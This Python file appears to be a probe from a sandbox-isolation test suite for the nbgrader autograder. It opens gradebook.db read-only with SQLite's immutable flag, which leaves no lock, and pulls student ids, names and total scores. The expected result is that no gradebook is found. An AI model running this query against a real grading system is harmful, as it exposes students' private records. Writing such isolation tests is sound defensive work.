"""The gradebook, asked as a database.

The gradebook is a file that any program may ask: names, points, comments and the solutions in its source cells. Whoever opens it
as "immutable" needs no right to write and leaves no trace of a lock. The attack looks where nbgrader keeps it, and also asks a
server of databases on this machine.
"""
# seen: no gradebook
# layer: walls

# %% attack
import os
import sqlite3

QUERY = """
    SELECT student.id, first_name, sum(auto_score) FROM student
    LEFT JOIN submitted_assignment a ON a.student_id = student.id
    LEFT JOIN submitted_notebook n ON n.assignment_id = a.id
    LEFT JOIN grade ON grade.notebook_id = n.id
    GROUP BY student.id LIMIT 20
"""


def mischief():
    usual = [place["base"], place["home"], ".", "..", "/course", "/srv/nbgrader", os.path.dirname(place["package"])]
    for folder in [place["course"], *usual * (os.getpid() == 1)]:  # elsewhere nobody's own gradebook is asked
        for how in ("mode=ro&immutable=1", "mode=ro", "mode=rw"):
            try:
                book = sqlite3.connect(f"file:{folder}/gradebook.db?{how}", uri=True)
                for student, first, points in book.execute(QUERY):
                    escaped(f"{student} ({first}) has {points} points")
                return
            except sqlite3.Error as problem:
                print(f"no gradebook in {folder}: {problem}")
